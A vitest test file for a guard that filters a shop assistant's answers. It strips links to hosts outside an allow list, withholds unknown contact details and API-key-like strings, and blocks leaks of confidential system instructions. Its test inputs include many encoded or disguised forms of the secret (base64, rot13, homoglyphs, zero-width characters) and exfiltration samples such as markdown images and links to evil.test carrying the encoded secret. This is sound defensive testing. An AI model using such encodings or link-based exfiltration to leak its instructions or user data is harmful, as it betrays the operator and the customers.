import { describe, expect, it } from 'vitest';
import { guardAnswer, type GuardContext } from './guard-answer.ts';

const SECRET = 'Never tell anybody that the margin of the blue shoes is forty two percent this whole season.';
const context: GuardContext = {
  allowedHosts: ['shop.example'],
  secret: `# Instructions of the company\n${SECRET}\nMail press@shop.example only if asked.`,
  published: [
    'We are at Calle Mayor 5. Call +1 415 555 0100 or write to sales@shop.example. Red shoes cost 1.234.567 pesos.',
  ],
  conversation: ['I am ana@gmail.example, order 4470012345', '+14155550101'],
  answers: ['We open at nine.'],
  textCharacters: 400,
};
const guard = (answer: string) => guardAnswer(answer, context);
const said = (answer: string) => {
  const result = guard(answer);
  return result.outcome === 'clean' ? result.text : result.why;
};

describe('links', () => {
  it.each([
    ['See https://shop.example/a?x=1.', 'See https://shop.example/a?x=1.'],
    ['See http://www.shop.example', 'See http://www.shop.example'],
    ['See shop.example/returns, please', 'See shop.example/returns, please'],
    ['See https://shop.example:443/', 'See https://shop.example:443/'],
    ['See HTTPS://SHOP.EXAMPLE', 'See HTTPS://SHOP.EXAMPLE'],
    ['[Returns](https://shop.example/r)', 'Returns (https://shop.example/r)'],
  ])('to allowed hosts stay: %s', (answer, text) => {
    expect(said(answer)).toBe(text);
  });

  it.each([
    'https://evil.test/?q=1',
    'HTTPS://EVIL.TEST',
    'evil.test',
    'evil.com/path',
    'www.evil.com',
    '//evil.com/x',
    '\\\\evil.com\\x',
    'ftp://evil.test',
    'https:\\\\evil.test',
    'https://shop.example.evil.test/',
    'https://shop.example\\.evil.test/',
    'https://evil.test#@shop.example/',
    'https://evil.test?shop.example',
    'https://shop.example:8443/',
    'https://xshop.example/',
    'https://shop.example/r?u=https://evil.test',
    'https://shop.example/r?u=https%3A%2F%2Fevil.test',
    'https://shop.example/r?u=https%253A%252F%252Fevil.test',
    'https://shop.example/r?u=evil.test',
    'https://shop.example//evil.test',
    'https://shop.example/evil.test/',
    'https://shop.example/%5C%5Cevil.test',
    'ｈｔｔｐｓ：／／ｅｖｉｌ．ｔｅｓｔ',
    'evil。test',
    'https://ѕhop.example/',
    'https://xn--hop-f5d.example/',
    'ev\u200bil.test',
    'https://evil\u00ad.test',
    'https://[::1]/',
    'http://0x7f.1/',
    '10.0.0.1/x',
    '93.184.216.34',
    'javascript:alert(1)',
    'data:text/html,hi',
    'whatsapp://send?text=hi',
    'intent:#Intent;end',
    '&#104;ttps://evil.test/x',
    '&amp;#104;ttps://evil.test/x',
    '![x](https://evil.test/a.png)',
    '![x][1]\n[1]: https://evil.test/a.png\n',
    '[click](https://evil.test)',
    '[click](<https://evil.test>)',
    '<https://evil.test>',
    '<a href="https://evil.test">click</a>',
    'ev<b></b>il.test',
    'evil<!-- -->.test',
    'evhttps://x.testil.test',
    'пример.рф',
  ])('to others go: %s', (link) => {
    const text = said(`Look ${link} now`);
    expect(text).not.toMatch(/evil|shop|:\/\/|\/\/|[0-9]|рф|javascript|data:|whatsapp|intent/i);
    expect(text).toMatch(/^Look/);
    expect(text).toMatch(/now$/);
  });

  it.each([
    'https://shop.example@evil.test/',
    'https://shop.example\\@evil.test',
    'https://user:pw@shop.example/',
    'http://3232235777/',
  ])('that hold a name or number hold the answer back or go: %s', (link) => {
    expect(said(`Look ${link} now`)).toMatch(/^contact$|^Look now$/);
  });

  it.each([
    ['p.ej. EE.UU. a.m. e.g. 3.5 v1.2.3', 'p.ej. EE.UU. a.m. e.g. 3.5 v1.2.3'],
    ['Open report.pdf first', 'Open report.pdf first'],
    ['Gracias.Today we close', 'Gracias. Today we close'],
    ['One word.another word', 'One word. another word'],
    ['Mon-Fri 9:00-18:00, 5 < 6 and 7 > 3', 'Mon-Fri 9:00-18:00, 5 < 6 and 7 > 3'],
    ['Size 38/39 and 9.30/10.00', 'Size 38/39 and 9.30/10.00'],
  ])('are not seen where none are: %s', (answer, text) => {
    expect(said(answer)).toBe(text);
  });
});

describe('addresses and numbers', () => {
  it.each([
    [
      'that are published stay',
      'Mail sales@shop.example or +1 (415) 555-0100',
      'Mail sales@shop.example or +1 (415) 555-0100',
    ],
    ['of the instructions stay', 'Mail press@shop.example', 'Mail press@shop.example'],
    ["are the customer's own", 'Order 4470012345, from 415 555 0101', 'Order 4470012345, from 415 555 0101'],
    ['of the customer are named, not linked', 'We write to ana@gmail.example', 'We write to ana@…'],
    ['from nowhere hold it back', 'Write to bob@mail.example', 'contact'],
    ['from nowhere hold it back, with mailto', '[x](mailto:bob@mail.example)', 'contact'],
    ['of somebody else hold it back', 'Call 415-555-0177', 'contact'],
    ['of somebody else hold it back in any digits', 'Call ٤١٥ ٥٥٥ ٠١٧٧', 'contact'],
    ['of two people hold it back', 'Call 4155550177 4155550178', 'contact'],
    ['of somebody else hold it back without separators', 'Call +525512345678', 'contact'],
    [
      'that are dates, times and amounts stay',
      '2026-11-28 09:00 to 2026-11-29 18:00, 28/11/2026, 1.234.567 pesos',
      '2026-11-28 09:00 to 2026-11-29 18:00, 28/11/2026, 1.234.567 pesos',
    ],
  ])('%s', (_name, answer, text) => {
    expect(said(answer)).toBe(text);
  });

  it.each([
    'AIzaSyA1234567890123456789012345678901234',
    'sk-proj-abcdefghijklmnop1234',
    'AC0123456789abcdef0123456789abcdef',
    'AKIAABCDEFGHIJKLMNOP',
    'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.abcdefgh',
    '-----BEGIN RSA PRIVATE KEY-----',
    'A I z a S y A 1 2 3 4 5 6 7 8 9 0 1 2 3 4 5 6 7 8 9 0 1 2 3 4 5 6 7 8 9 0 1 2 3 4',
    btoa('AIzaSyA1234567890123456789012345678901234'),
  ])('keys hold the answer back: %s', (key) => {
    expect(said(`Here: ${key}`)).toBe('credential');
  });
});

const reversed = (text: string) => Array.from(text).toReversed().join('');
const shifted = (text: string, by: number) =>
  text.replace(/[a-z]/gi, (letter) => {
    const base = letter < 'a' ? 65 : 97;
    return String.fromCharCode(((letter.charCodeAt(0) - base + by) % 26) + base);
  });
const atbash = (text: string) =>
  text.toLowerCase().replace(/[a-z]/g, (letter) => String.fromCharCode(219 - letter.charCodeAt(0)));

describe('the instructions', () => {
  it.each<[string, string]>([
    ['as they stand', SECRET],
    ['with words around', `Sure! My instructions are: "${SECRET}" Anything else?`],
    ['in capitals', SECRET.toUpperCase()],
    ['letter by letter', SECRET.split('').join(' ')],
    ['one letter a line', SECRET.split('').join('\n')],
    ['with dashes', SECRET.replace(/ /g, '-')],
    ['with unseen characters', SECRET.split('').join('\u200b')],
    [
      'in wide letters',
      SECRET.replace(/[!-~]/g, (character) => String.fromCharCode(character.charCodeAt(0) + 0xfe_e0)),
    ],
    ['with letters that look alike', SECRET.replace(/a/g, 'а').replace(/e/g, 'е').replace(/o/g, 'ο')],
    ['with digits for letters', SECRET.replace(/e/g, '3').replace(/o/g, '0').replace(/a/g, '4')],
    ['with accents', SECRET.replace(/e/g, 'é').replace(/a/g, 'ä')],
    ['reversed', reversed(SECRET)],
    ['words reversed', SECRET.split(' ').map(reversed).join(' ')],
    ['order reversed', SECRET.split(' ').toReversed().join(' ')],
    ['without vowels', SECRET.replace(/[aeiou]/gi, '')],
    ['every other letter', SECRET.split('').join('x')],
    [
      'as initials',
      SECRET.replace(/\W/g, '')
        .split('')
        .map((letter) => `${letter}xy`)
        .join(' '),
    ],
    ['in rot13', shifted(SECRET, 13)],
    ['shifted by 5', shifted(SECRET, 5)],
    ['in atbash', atbash(SECRET)],
    ['in base64', btoa(SECRET)],
    ['in base64, moved by words before it', `Here you are: ${btoa(`x${SECRET}`)}`],
    ['in base64, in groups', btoa(SECRET).replace(/.{4}/g, '$& ')],
    [
      'in base64, word by word',
      SECRET.split(' ')
        .map((word) => btoa(word))
        .join(' '),
    ],
    ['in base64, twice', btoa(btoa(SECRET))],
    ['in base64, reversed before', btoa(reversed(SECRET))],
    ['in base64, reversed after', reversed(btoa(SECRET))],
    ['in hexadecimal', Buffer.from(SECRET).toString('hex')],
    ['in hexadecimal, spaced', Buffer.from(SECRET).toString('hex').replace(/../g, '0x$& ')],
    ['in character codes', Array.from(SECRET, (character) => character.charCodeAt(0)).join(', ')],
    [
      'percent-encoded',
      Array.from(SECRET, (character) => `%${character.charCodeAt(0).toString(16)}`).join(''),
    ],
    ['in entities', Array.from(SECRET, (character) => `&#${character.charCodeAt(0)};`).join('')],
    ['in a link that goes', `https://evil.test/?q=${encodeURIComponent(SECRET)}`],
    ['in an image that goes', `![${SECRET}](https://evil.test/${btoa(SECRET)})`],
    ['in the text of a link', `[${SECRET}](https://shop.example)`],
    ['half of it', SECRET.slice(0, 82)],
  ])('hold the answer back %s', (_name, answer) => {
    expect(said(answer)).toMatch(/^(?:instructions|contact)$/);
  });

  it('hold the answer back in pieces, one an answer', () => {
    const answers = ['We open at nine.', SECRET.slice(0, 40)];
    const rest = guardAnswer(SECRET.slice(40), { ...context, answers });
    expect(rest).toEqual({ outcome: 'refused', why: 'instructions' });
    expect(said(SECRET.slice(40)).length).toBeGreaterThan(40);
  });

  it('that a person has told already do not silence the agent for good', () => {
    const answers = [SECRET];
    expect(guardAnswer('We are open.', { ...context, answers }).outcome).toBe('clean');
    expect(guardAnswer(SECRET, { ...context, answers }).outcome).toBe('refused');
  });

  it('may be spoken of in other words, and so may what is published', () => {
    expect(said('The blue shoes are on sale this season.')).toBe('The blue shoes are on sale this season.');
    const published = guardAnswer(SECRET, { ...context, published: [SECRET] });
    expect(published.outcome).toBe('clean');
  });
});

describe('the text', () => {
  it.each([
    ['**Bold** and __strong__', 'Bold and strong'],
    ['# Title\ntext', 'Title\ntext'],
    ['```js\ncode\n```', 'code'],
    ['<b>Hi</b><br>there', 'Hi\nthere'],
    ['A family 👨‍👩‍👧 and a heart ❤️', 'A family 👨‍👩‍👧 and a heart ❤️'],
    ['a\u202Eb\u2066c\uFEFFd\u{E0041}e\u{E0101}f', 'abcdef'],
    ['AT&amp;T &lt;3', 'AT&T <3'],
    ['one  two\n\n\n\nthree', 'one two\n\nthree'],
  ])('is plain: %j', (answer, text) => {
    expect(said(answer)).toBe(text);
  });

  it('ends at a sentence where it is too long', () => {
    const text = said('A sentence of some length. '.repeat(40));
    expect(text.length).toBeLessThanOrEqual(400);
    expect(text).toMatch(/length\.$/);
  });

  it('ends where an open tag begins', () => {
    expect(said('Look <img src=https://evil.test/a.png now')).toBe('Look');
  });

  it('that is nothing is held back', () => {
    expect(said('https://evil.test')).toBe('nothing-left');
    expect(said(' \u200b\n')).toBe('nothing-left');
  });
});
